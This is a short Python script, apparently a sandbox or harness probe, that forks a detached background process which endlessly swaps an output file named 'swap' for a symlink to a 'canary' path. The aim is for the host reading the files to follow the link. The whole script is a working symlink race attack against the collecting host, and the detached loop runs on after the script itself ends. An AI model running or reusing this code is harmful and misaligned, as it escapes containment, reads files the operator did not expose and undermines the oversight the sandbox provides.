# tries: swap a file for a link while the host collects
import os
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            open("swap.tmp", "w").close()
            os.rename("swap.tmp", "swap")
            os.symlink(inputs["canary"], "swap.tmp")
            os.rename("swap.tmp", "swap")
        except OSError:
            pass
print("held: swapping")
